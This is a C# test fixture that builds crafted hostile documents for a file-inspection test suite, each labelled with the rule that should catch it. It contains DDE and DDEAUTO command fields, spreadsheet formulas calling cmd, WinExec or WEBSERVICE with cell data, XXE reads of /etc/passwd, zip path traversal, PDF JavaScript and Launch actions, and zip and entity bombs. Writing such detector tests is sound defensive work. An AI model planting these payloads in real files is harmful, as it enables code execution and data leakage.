using System.Text;

namespace PhbResources.Documents.Tests.Inspection;

/// <summary>Files that must not be taken as they are, each with the code of the rule that catches it.</summary>
internal static class HostileFiles
{
    private static readonly byte[] Ole = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[600]];

    private static readonly Lazy<(string Name, byte[] File, string Code)[]> Built = new(() => [.. Types, .. Zips, .. Word, .. Sheets, .. OpenDocuments, .. Pdfs, .. Rtfs, .. Pictures]);

    public static IReadOnlyList<(string Name, byte[] File, string Code)> All => Built.Value;

    public static byte[] Vba => [.. Ole, .. Encoding.Unicode.GetBytes("_VBA_PROJECT")];

    private static string Text(string instruction) => $"<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>{string.Concat(instruction.Select(letter => $"<w:r><w:instrText>{letter}</w:instrText></w:r>"))}<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";

    private static string Formula(string formula) => $"<row r=\"1\"><c r=\"A1\"><f>{System.Security.SecurityElement.Escape(formula)}</f><v>1</v></c></row>";

    private static IEnumerable<(string, byte[], string)> Types =>
    [
        ("nothing.txt", [], "empty-file"),
        ("old.doc", [.. Ole, .. Encoding.Unicode.GetBytes("WordDocument")], "old-word"),
        ("old.xls", [.. Ole, .. Encoding.Unicode.GetBytes("Workbook")], "old-excel"),
        ("locked.docx", [.. Ole, .. Encoding.Unicode.GetBytes("EncryptedPackage")], "encrypted"),
        ("tool.pdf", [0x4D, 0x5A, .. new byte[200]], "program"),
        ("page.txt", "<!DOCTYPE html><script>alert(1)</script>"u8.ToArray(), "web-page"),
        ("drawing.png", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"u8.ToArray(), "web-page"),
        ("page16.txt", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("<html><script>")], "web-page"),
        ("mail.txt", "From: a@example.org\nMIME-Version: 1.0\n\nhello"u8.ToArray(), "mail"),
        ("archive.docx", new Package().With("a.txt", "hello").Bytes(), "archive"),
        ("noise.bin", [1, 2, 3, 0, 5, 6, 0, 8], "unknown-type"),
        ("picture.gif", "GIF89a\x01\0\x01\0"u8.ToArray(), "other-picture"),
        ("macro.docm", Package.Ooxml("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml", $"<w:document {Package.WordSpace}/>").Bytes(), "macro-document"),
        ("slides.pptx", Package.Ooxml("ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml", "<p/>").Bytes(), "slides"),
    ];

    private static IEnumerable<(string, byte[], string)> Zips
    {
        get
        {
            var good = Package.Docx(Package.Paragraph("Rota")).Bytes();
            yield return ("bomb.docx", Package.Docx("").With("word/media/image1.bin", new byte[20 * 1024 * 1024]).Bytes(), "zip-bomb");
            yield return ("parts.docx", Enumerable.Range(0, 2_100).Aggregate(Package.Docx(""), (package, number) => package.Again($"word/p{number}.xml", "<a/>"u8.ToArray())).Bytes(), "too-many-parts");
            yield return ("up.docx", Package.Docx("").With("../../etc/passwd", "x").Bytes(), "archive-names");
            yield return ("root.docx", Package.Docx("").With("/etc/passwd", "x").Bytes(), "archive-names");
            yield return ("backslash.docx", Package.Docx("").With("word\\..\\x.xml", "<a/>").Bytes(), "archive-names");
            yield return ("twice.docx", Package.Docx(Package.Paragraph("shown")).Again("word/document.xml", "<a/>"u8.ToArray()).Bytes(), "archive-duplicates");
            yield return ("case.docx", Package.Docx(Package.Paragraph("shown")).Again("WORD/document.XML", "<a/>"u8.ToArray()).Bytes(), "archive-duplicates");
            yield return ("before.docx", [.. "PK\x03\x04junk"u8, .. good], "archive-structure");
            yield return ("after.docx", [.. good, .. "<script>alert(1)</script>"u8], "two-in-one");
            yield return ("lying-size.docx", Patched(good, CentralOf(good, "word/document.xml") + 24, 9), "archive-structure");
            yield return ("lying-name.docx", Patched(good, LocalOf(good) + 30, (byte)'X'), "archive-structure");
            yield return ("lying-checksum.docx", Patched(Patched(good, CentralOf(good, "word/document.xml") + 16, 9), LocalOfPart(good, "word/document.xml") + 14, 9), "damaged");
            yield return ("overlap.docx", Overlapping(good), "archive-structure");
            yield return ("locked-part.docx", Patched(good, CentralOf(good, "word/document.xml") + 8, 1), "encrypted");
            yield return ("entities.docx", Package.Docx("").With("word/document.xml", "<!DOCTYPE a [<!ENTITY b \"bbbbbbbbbb\"><!ENTITY c \"&b;&b;&b;&b;\">]><a>&c;</a>").Bytes(), "xml-entities");
            yield return ("external-entity.odt", Package.Odt("").With("content.xml", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>").Bytes(), "xml-entities");
            yield return ("manifest-entity.odt", Package.Odt("").With("META-INF/manifest.xml", "<!DOCTYPE a [<!ENTITY b \"c\">]><a>&b;</a>").Bytes(), "xml-entities");
            yield return ("deep.docx", Package.Docx(string.Concat(Enumerable.Repeat("<w:sdt>", 5_000)) + string.Concat(Enumerable.Repeat("</w:sdt>", 5_000))).Bytes(), "too-complicated");
            yield return ("names.docx", Package.Docx(string.Concat(Enumerable.Range(0, 30_000).Select(number => $"<n{number}/>"))).Bytes(), "too-complicated");
            yield return ("attribute.docx", Package.Docx($"<w:p w:x=\"{new string('x', 3_000_000)}\"/>").Bytes(), "zip-bomb");
        }
    }

    private static IEnumerable<(string, byte[], string)> Word =>
    [
        ("vba.docx", Package.Docx("", ("m", "vbaProject", "vbaProject.bin", false)).With("word/vbaProject.bin", Vba).Bytes(), "macros"),
        ("renamed-vba.docx", Package.Docx("").With("word/media/image1.png", Vba).Bytes(), "macros"),
        ("ole.docx", Package.Docx("", ("o", "oleObject", "embeddings/oleObject1.bin", false)).With("word/embeddings/oleObject1.bin", Ole).Bytes(), "embedded-object"),
        ("unlinked-ole.docx", Package.Docx("").With("word/media/picture.emf", Ole).Bytes(), "embedded-object"),
        ("package.docx", Package.Docx("").With("word/embeddings/Sheet.xlsx", Package.Xlsx("").Bytes()).Bytes(), "embedded-file"),
        ("program.docx", Package.Docx("").With("word/media/a.png", [0x4D, 0x5A, .. new byte[100]]).Bytes(), "embedded-file"),
        ("activex.docx", Package.Docx("", ("c", "control", "activeX/activeX1.xml", false)).With("word/activeX/activeX1.xml", "<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\"/>").Bytes(), "activex"),
        ("template.docx", Package.Docx(Package.Paragraph("x"), ("t", "attachedTemplate", "http://example.org/t.dotm", true)).Bytes(), "external-template"),
        ("image.docx", Package.Docx(Package.Paragraph("x"), ("i", "image", "http://example.org/i.png", true)).Bytes(), "remote-image"),
        ("sub.docx", Package.Docx("", ("s", "subDocument", "file:///x.docx", true)).Bytes(), "external-content"),
        ("frame.docx", Package.Docx("", ("s", "frame", "http://example.org/x.htm", true)).Bytes(), "external-content"),
        ("linked-ole.docx", Package.Docx("", ("s", "oleObject", "http://example.org/x.hta!", true)).Bytes(), "embedded-object"),
        ("sneaky-mode.docx", Package.Docx("", ("s", "oleObject", "mhtml:http://example.org/x.htm", false)).Bytes(), "embedded-object"),
        ("unknown-mode.docx", Package.Docx("", ("s", "somethingNew", "\\\\example.org\\share", true)).Bytes(), "external-content"),
        ("script-link.docx", Package.Docx(Package.Paragraph("x"), ("h", "hyperlink", "javascript:alert(1)", true)).Bytes(), "unsafe-link"),
        ("file-link.docx", Package.Docx(Package.Paragraph("x"), ("h", "hyperlink", "file:///c:/windows/system32/calc.exe", true)).Bytes(), "unsafe-link"),
        ("chunk.docx", Package.Docx("<w:altChunk r:id=\"a\"/>", ("a", "aFChunk", "a.html", false)).With("word/a.html", "<html/>").Bytes(), "embedded-file"),
        ("dde.docx", Package.Docx(Text("DDEAUTO c:\\windows\\system32\\cmd.exe")).Bytes(), "data-field"),
        ("simple-dde.docx", Package.Docx("<w:p><w:fldSimple w:instr=\" dde x y\"/></w:p>").Bytes(), "data-field"),
        ("include.docx", Package.Docx(Text(" INCLUDETEXT \"http://example.org/x\"")).Bytes(), "data-field"),
        ("spelled.docx", Package.Docx("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>" + Text("QUOTE 68 68 69") + "<w:r><w:instrText> c:\\x</w:instrText><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>").Bytes(), "data-field"),
        ("header-dde.docx", Package.Docx("").With("word/header9.xml", $"<w:hdr {Package.WordSpace}>{Text("DDE a b")}</w:hdr>").Bytes(), "data-field"),
        ("merge.docx", Package.Docx("").With("word/settings.xml", $"<w:settings {Package.WordSpace}><w:mailMerge/></w:settings>").Bytes(), "mail-merge"),
        ("macro-shape.docx", Package.Docx("<w:p macro=\"[0]!Run\"/>").Bytes(), "macros"),
        ("svg-script.docx", Package.Docx("").With("word/media/i.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>").Bytes(), "macros"),
        ("blob.docx", Package.Docx("").With("word/secret.bin", [1, 0, 2, 0, 3]).Bytes(), "unknown-part"),
        ("pixels.docx", Package.Docx("").With("word/media/i.png", Picture.Png(60_000, 60_000)).Bytes(), "too-many-pixels"),
    ];

    private static IEnumerable<(string, byte[], string)> Sheets =>
    [
        ("dde.xlsx", Package.Xlsx(Formula("cmd|'/c calc'!A0")).Bytes(), "sheet-link"),
        ("service.xlsx", Package.Xlsx(Formula("WEBSERVICE(\"http://example.org/\"&A2)")).Bytes(), "sheet-link"),
        ("prefixed.xlsx", Package.Xlsx(Formula("_xlfn.WEBSERVICE (\"http://example.org/\"&A2)")).Bytes(), "sheet-link"),
        ("image.xlsx", Package.Xlsx(Formula("_xlfn.IMAGE(\"http://example.org/x.png\")")).Bytes(), "sheet-link"),
        ("call.xlsx", Package.Xlsx(Formula("CALL(\"kernel32\",\"WinExec\")")).Bytes(), "sheet-link"),
        ("other-book.xlsx", Package.Xlsx(Formula("'\\\\server\\[b.xlsx]S'!A1")).Bytes(), "sheet-link"),
        ("numbered.xlsx", Package.Xlsx(Formula("[1]Sheet1!A1")).Bytes(), "sheet-link"),
        ("link.xlsx", Package.Xlsx(Formula("HYPERLINK(\"file:///c:/x.exe\",\"x\")")).Bytes(), "unsafe-link"),
        ("external.xlsx", Package.Xlsx("", ("e", "externalLink", "externalLinks/externalLink1.xml", false)).With("xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService=\"cmd\"/></externalLink>").Bytes(), "sheet-link"),
        ("connections.xlsx", Package.Xlsx("", ("c", "connections", "connections.xml", false)).With("xl/connections.xml", "<connections/>").Bytes(), "sheet-link"),
        ("unlisted-dde.xlsx", Package.Xlsx("").With("xl/other.xml", "<externalLink><ddeLink/></externalLink>").Bytes(), "sheet-link"),
        ("xlm.xlsx", Package.Xlsx("", ("x", "xlMacrosheet", "macrosheets/sheet1.xml", false)).With("xl/macrosheets/sheet1.xml", "<a/>").Bytes(), "macros"),
        ("binary.xlsb", Package.Ooxml("xl/workbook.bin", "application/vnd.ms-excel.sheet.binary.macroEnabled.main", "x").Bytes(), "macro-document"),
        ("validation.xlsx", Package.Xlsx("").With("xl/worksheets/sheet1.xml", $"<worksheet {Package.SheetSpace}><dataValidations><dataValidation><formula1>WEBSERVICE(A1)</formula1></dataValidation></dataValidations></worksheet>").Bytes(), "sheet-link"),
    ];

    private static IEnumerable<(string, byte[], string)> OpenDocuments =>
    [
        ("basic.odt", Package.Odt("").With("Basic/Standard/Module1.xml", "<module/>").Bytes(), "macros"),
        ("python.odt", Package.Odt("").With("Scripts/python/x.py", "import os").Bytes(), "macros"),
        ("listener.odt", Package.Odt("<script:event-listener script:event-name=\"dom:load\" xlink:href=\"vnd.sun.star.script:x\"/>").Bytes(), "macros"),
        ("script-link.odt", Package.Odt("<text:p><text:a xlink:href=\"macro:///x\">x</text:a></text:p>").Bytes(), "macros"),
        ("ole.odt", Package.Odt("<draw:object-ole xlink:href=\"./Object 1\"/>").With("Object 1", Ole).Bytes(), "embedded-object"),
        ("object.odt", Package.Odt("<draw:object xlink:href=\"./Object 1\"/>").With("Object 1/content.xml", $"<office:document-content {Package.OdfSpace}><office:body><office:spreadsheet/></office:body></office:document-content>").Bytes(), "embedded-object"),
        ("image.odt", Package.Odt("<text:p><draw:image xlink:href=\"http://example.org/x.png\"/></text:p>").Bytes(), "remote-image"),
        ("frame.odt", Package.Odt("<draw:floating-frame xlink:href=\"http://example.org/\"/>").Bytes(), "external-content"),
        ("section.odt", Package.Odt("<text:section><text:section-source xlink:href=\"http://example.org/x.odt\"/></text:section>").Bytes(), "external-content"),
        ("dde.odt", Package.Odt("<text:section><office:dde-source office:dde-application=\"soffice\"/></text:section>").Bytes(), "data-field"),
        ("file-link.odt", Package.Odt("<text:p><text:a xlink:href=\"file:///etc/passwd\">x</text:a></text:p>").Bytes(), "unsafe-link"),
        ("locked.odt", Package.Odt("").With("META-INF/manifest.xml", "<m:manifest xmlns:m=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\"><m:file-entry><m:encryption-data/></m:file-entry></m:manifest>").Bytes(), "encrypted"),
        ("template.odt", Package.Odt("<text:p>x</text:p>").With("meta.xml", $"<office:document-meta {Package.OdfSpace}><office:meta><meta:template xlink:href=\"file:///home/jo/t.ott\"/></office:meta></office:document-meta>").Bytes(), "external-template"),
        ("service.ods", Package.Ods("<table:table table:name=\"A\"><table:table-row><table:table-cell table:formula=\"of:=COM.MICROSOFT.WEBSERVICE([.A1])\"/></table:table-row></table:table>").Bytes(), "sheet-link"),
        ("other.ods", Package.Ods("<table:table table:name=\"A\"><table:table-row><table:table-cell table:formula=\"of:='file:///x.ods'#$A.A1\"/></table:table-row></table:table>").Bytes(), "sheet-link"),
        ("source.ods", Package.Ods("<table:table table:name=\"A\"><table:table-source xlink:href=\"http://example.org/\"/></table:table>").Bytes(), "sheet-link"),
    ];

    private static IEnumerable<(string, byte[], string)> Pdfs =>
    [
        ("script.pdf", Pdf.With("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"), "pdf-script"),
        ("escaped.pdf", Pdf.With("/OpenAction << /S /J#61v#61Scr#69pt /J#53 (x) >>"), "pdf-script"),
        ("names.pdf", Pdf.With("/Names << /JavaScript 10 0 R >>", "<< /Names [(a) 11 0 R] >>", "<< /S /JavaScript /JS 12 0 R >>", Pdf.Packed("", "app.alert(1)")), "pdf-script"),
        ("packed.pdf", Pdf.With("/OpenAction 20 0 R", Pdf.ObjectStream((20, "<< /S /JavaScript /JS (x) >>"))), "pdf-script"),
        ("packed-escaped.pdf", Pdf.With("/AA << /O 20 0 R >>", Pdf.ObjectStream((20, "<< /S /#4aavaScript /JS (x) >>"))), "pdf-script"),
        ("unlabelled.pdf", Pdf.With("/OpenAction 20 0 R", Pdf.ObjectStream((20, "<< /S /JavaScript /JS (x) >>")).Replace("/Type /ObjStm", "", StringComparison.Ordinal)), "pdf-script"),
        ("in-a-stream.pdf", Pdf.With("/OpenAction 30 0 R", Pdf.Stream("", "30 0 obj << /S /JavaScript /JS (x) >> endobj"u8.ToArray())), "pdf-script"),
        ("js-only.pdf", Pdf.With("/X << /JS (x) >>"), "pdf-script"),
        ("launch.pdf", Pdf.With("/OpenAction << /S /Launch /F (cmd.exe) >>"), "pdf-launch"),
        ("remote.pdf", Pdf.With("/OpenAction << /S /GoToR /F (x.pdf) >>"), "pdf-launch"),
        ("embedded-target.pdf", Pdf.With("/OpenAction << /S /GoToE >>"), "pdf-launch"),
        ("submit.pdf", Pdf.With("/AcroForm << /Fields [<< /A << /S /SubmitForm /F (http://example.org) >> >>] >>"), "pdf-submit"),
        ("import.pdf", Pdf.With("/OpenAction << /S /ImportData /F (x) >>"), "pdf-submit"),
        ("attached.pdf", Pdf.With("/Names << /EmbeddedFiles << /Names [(a) << /EF << /F 10 0 R >> >>] >> >>", Pdf.Packed("/Type /EmbeddedFile", "MZ")), "pdf-attachment"),
        ("film.pdf", Pdf.With("", "<< /Type /Annot /Subtype /RichMedia >>"), "pdf-media"),
        ("3d.pdf", Pdf.With("", "<< /Type /Annot /Subtype /3D >>"), "pdf-media"),
        ("xfa.pdf", Pdf.With("/AcroForm << /XFA 10 0 R >>", Pdf.Packed("", "<xdp/>")), "pdf-xfa"),
        ("locked.pdf", Encoding.Latin1.GetBytes(Encoding.Latin1.GetString(Pdf.With()).Replace("/Root 1 0 R", "/Root 1 0 R /Encrypt << /Filter /Standard >>", StringComparison.Ordinal)), "encrypted"),
        ("link.pdf", Pdf.With("", "<< /S /URI /URI (javascript:alert\\(1\\)) >>"), "unsafe-link"),
        ("earlier.pdf", Pdf.Revised(Pdf.With("/OpenAction << /S /JavaScript /JS (x) >>"), (1, "<< /Type /Catalog /Pages 2 0 R >>")), "pdf-script"),
        ("with-zip.pdf", [.. Pdf.With(), .. Package.Docx("").Bytes()], "two-in-one"),
        ("late.pdf", [.. "hello\n"u8, .. Pdf.With()], "two-in-one"),
        ("after.pdf", [.. Pdf.With(), .. "<html><script>alert(1)</script></html> and so on and on and on and on"u8], "two-in-one"),
        ("bomb.pdf", Pdf.With("/Metadata 10 0 R", Pdf.Packed("/Type /Metadata", new string('a', 17_000_000))), "zip-bomb"),
        ("deep.pdf", Pdf.With("/X " + new string('[', 50_000)), "too-complicated"),
        ("no-end.pdf", "%PDF-1.7\n1 0 obj"u8.ToArray(), "damaged"),
    ];

    private static IEnumerable<(string, byte[], string)> Rtfs =>
    [
        ("object.rtf", "{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}"u8.ToArray(), "embedded-object"),
        ("bare-data.rtf", "{\\rtf1{\\*\\objdata 0105}}"u8.ToArray(), "embedded-object"),
        ("split.rtf", "{\\rtf1{\\pict{\\*\\objdata 01\r\n05}}}"u8.ToArray(), "embedded-object"),
        ("control.rtf", "{\\rtf1{\\object\\objocx}}"u8.ToArray(), "activex"),
        ("template.rtf", "{\\rtf1{\\*\\template http://example.org/x.dotm} x}"u8.ToArray(), "external-template"),
        ("dde.rtf", "{\\rtf1{\\field{\\*\\fldinst {DD}{EAUTO c:\\\\x}}{\\fldrslt x}}}"u8.ToArray(), "data-field"),
        ("picture.rtf", "{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE http://example.org/x}{\\fldrslt x}}}"u8.ToArray(), "remote-image"),
        ("after.rtf", "{\\rtf1 hello}MZ something else"u8.ToArray(), "two-in-one"),
        ("deep.rtf", Encoding.ASCII.GetBytes("{\\rtf1" + new string('{', 5_000)), "too-complicated"),
        ("open.rtf", "{\\rtf1 hello"u8.ToArray(), "damaged"),
        ("half.rtf", "{\\rt hello}"u8.ToArray(), "damaged"),
    ];

    private static IEnumerable<(string, byte[], string)> Pictures =>
    [
        ("film.jpg", [.. Picture.Jpg(), .. "ftypmp42 film"u8], "trailing-data"),
        ("zip.jpg", [.. Picture.Jpg(), .. Package.Docx("").Bytes()], "two-in-one"),
        ("page.jpg", Picture.Jpg(8, 8, (0xFE, "<html><script>alert(1)</script>"u8.ToArray())), "two-in-one"),
        ("zip.png", [.. Picture.Png(), .. Package.Docx("").Bytes()], "two-in-one"),
        ("text.png", [.. Picture.Png(), .. "hello"u8], "trailing-data"),
        ("large.png", Picture.Png(50_000, 50_000), "too-many-pixels"),
        ("large.jpg", Picture.Jpg(65_000, 65_000), "too-many-pixels"),
        ("cut.png", Picture.Png()[..40], "damaged"),
        ("cut.jpg", Picture.Jpg()[..^4], "damaged"),
        ("script.png", Picture.Png(2, 2, ("tEXt", "Comment\0<script>alert(1)</script>"u8.ToArray())), "two-in-one"),
    ];

    private static byte[] Patched(byte[] file, int at, byte value)
    {
        var copy = (byte[])file.Clone();
        copy[at] ^= value;
        return copy;
    }

    private static int LocalOf(byte[] file) => file.AsSpan().IndexOf("PK\x03\x04"u8);

    private static int LocalOfPart(byte[] file, string name) => file.AsSpan().IndexOf(Encoding.ASCII.GetBytes(name)) - 30;

    private static int CentralOf(byte[] file, string name) => file.AsSpan().LastIndexOf(Encoding.ASCII.GetBytes(name)) is var last && file.AsSpan(last - 46, 4).SequenceEqual("PK\x01\x02"u8) ? last - 46 : file.AsSpan(0, last).LastIndexOf(Encoding.ASCII.GetBytes(name)) - 46;

    /// <summary>Two entries of the directory that lead to the same data.</summary>
    private static byte[] Overlapping(byte[] file)
    {
        var copy = (byte[])file.Clone();
        var first = copy.AsSpan().IndexOf("PK\x01\x02"u8);
        var second = first + 4 + copy.AsSpan(first + 4).IndexOf("PK\x01\x02"u8);
        copy.AsSpan(first + 42, 4).CopyTo(copy.AsSpan(second + 42, 4));
        return copy;
    }
}
